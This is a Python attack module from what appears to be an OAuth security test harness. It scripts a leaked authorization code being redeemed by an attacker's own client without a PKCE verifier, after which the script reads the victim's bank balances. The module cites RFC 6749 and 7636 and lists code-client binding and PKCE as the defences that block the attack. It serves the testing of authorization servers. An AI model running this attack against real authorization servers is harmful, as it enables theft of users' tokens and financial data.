"""code-redeem-own-client: a leaked code redeemed at the token endpoint by the attacker's client.

The A3b attacker reads the AS's redirect of an interrupted flow (the tab was closed, the
code never reached FinLens). It sends the code with FinLens's redirect_uri, its own
client authentication and no code_verifier. RFC 6749 §4.1.3: the AS must "ensure that
the authorization code was issued to the authenticated confidential client"; PKCE
(RFC 7636 §4.6) refuses a code redeemed without its verifier.
"""

from __future__ import annotations

from attacker import token_support as ts
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.outcome import PKCE_ALONE, AttackSetupError
from attacker.premises import interrupted_victim


def run(ctx: AttackContext) -> None:
    interrupted_victim(ctx)
    leaked = ctx.capture.last("authz_response", where=lambda x: "code" in x.location_params())
    code = leaked.location_params()["code"]
    if not code:
        raise AttackSetupError("the captured authorization response carries no code")
    ctx.step("attacker", "reads the code in the AS's redirect to FinLens (authz_response leg)")
    signer = ctx.dpop_signer() if ts.dpop_required(ts.metadata(ctx)) else None
    form = {"grant_type": "authorization_code", "code": code,
            "redirect_uri": ctx.url("tpp", "/callback"), **ctx.own_client_auth("token")}
    response = ts.post_token(ctx, form, signer=signer,
                             what="POST /token with the victim's code, FinLens's redirect_uri, "
                                  "its own client and no code_verifier")
    tokens = ts.tokens_or_fail(ctx, response, "the AS refused to redeem the leaked code")
    balances = ts.read_balances(ctx, tokens, signer=signer)
    ctx.succeeded(f"redeemed the victim's code in its own client and read {len(balances)} "
                  "balances", balances)


ATTACK = Attack(
    id="code-redeem-own-client", attacker="A3b", legs=("authz_response",), victim="prior",
    title="Leaked code redeemed by the attacker's client",
    blocked_by=("code_client_binding", "pkce_required"),
    premise="Reads the authorization response of a victim flow interrupted before FinLens "
            "redeemed the code; has its own registered client.",
    goal="the victim's tokens in the attacker's own client, then her balances", run=run,
    refs=("RFC 6749 §4.1.3", "BCP §4.5", "RFC 7636 §4.6"),
    not_alone={"pkce_required": PKCE_ALONE},
)
